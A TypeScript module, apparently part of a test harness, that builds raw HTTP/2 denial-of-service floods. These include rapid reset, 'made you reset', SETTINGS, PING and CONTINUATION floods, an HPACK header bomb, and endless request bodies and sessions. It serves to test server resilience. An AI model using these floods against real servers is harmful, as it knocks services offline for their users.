/**
 * Floods that a stranger can write by hand, one for each kind of frame: what they say first, and what they go on with.
 */
import * as raw from "./rawFrames.ts"

const { CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE } =
  raw
const WHOLE = END_HEADERS | END_STREAM

export interface Flood {
  readonly begin: Uint8Array
  /** The `n`th piece that follows; undefined: nothing does. */
  readonly more: (n: number) => Uint8Array | undefined
}

const AT_ONCE = 200
const times = (n: number, make: (i: number) => Uint8Array): Uint8Array =>
  Buffer.concat(Array.from({ length: n }, (_, i) => make(i)))
const same = (frame: Uint8Array, begin: Uint8Array = Buffer.alloc(0)): Flood => {
  const piece = times(AT_ONCE * 5, () => frame)
  return { begin: Buffer.concat([raw.opening(), begin]), more: () => piece }
}
/** Stream ids are used once: the piece is another each time. */
const streams = (make: (id: number) => Uint8Array): Flood => ({
  begin: raw.opening(),
  more: (n) => times(AT_ONCE, (i) => make(1 + 2 * (n * AT_ONCE + i))),
})
const get = (id: number, path = "/ok") => raw.frame(HEADERS, WHOLE, id, raw.request(path))
const post = (id: number) => raw.frame(HEADERS, END_HEADERS, id, raw.request("/ok", "POST"))
const reset = (id: number) => raw.frame(RST_STREAM, 0, id, raw.u32(8))

/** One long field put into the table (RFC 7541, 6.2.1), then named again and again: 62 is the newest entry. */
const bomb = Buffer.concat([
  raw.request("/ok"),
  Buffer.of(0x40),
  raw.literal("a", "y".repeat(3_900)).subarray(1),
  Buffer.alloc(4_000, 0x80 | 62),
])

export const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": streams((id) => Buffer.concat([get(id), reset(id)])),
  "rapid reset, open body": streams((id) =>
    Buffer.concat([post(id), raw.frame(DATA, 0, id, Buffer.alloc(200)), reset(id)]),
  ),
  "made you reset": streams((id) => Buffer.concat([get(id), raw.frame(WINDOW_UPDATE, 0, id, raw.u32(0))])),
  "made you reset by data": streams((id) => Buffer.concat([get(id), raw.frame(DATA, 0, id, Buffer.alloc(10))])),
  SETTINGS: same(raw.frame(SETTINGS, 0, 0)),
  "SETTINGS ACK": same(raw.frame(SETTINGS, 1, 0)),
  PING: same(raw.frame(PING, 0, 0, Buffer.alloc(8))),
  "empty CONTINUATION": same(raw.frame(CONTINUATION, 0, 1), raw.frame(HEADERS, END_STREAM, 1, raw.request("/ok"))),
  "empty DATA": same(raw.frame(DATA, 0, 1), post(1)),
  WINDOW_UPDATE: same(raw.frame(WINDOW_UPDATE, 0, 0, raw.u32(1)), get(1, "/stay")),
  PRIORITY: same(raw.frame(PRIORITY, 0, 3, Buffer.concat([raw.u32(0), Buffer.of(1)])), get(1, "/stay")),
  "unknown frames": same(raw.frame(0x42, 0, 0, Buffer.alloc(16)), get(1, "/stay")),
  "header bomb": streams((id) => raw.frame(HEADERS, WHOLE, id, bomb)),
  "what is not there": streams((id) => get(id, "/nothing")),
  "dear answers": streams((id) => get(id, "/big")),
  "bodies without end": {
    begin: Buffer.concat([raw.opening(), times(60, (i) => post(1 + 2 * i))]),
    more: (n) => raw.frame(DATA, 0, 1 + 2 * (n % 60), Buffer.alloc(4_000)),
  },
  "sessions without end": { begin: raw.opening(), more: () => undefined },
}
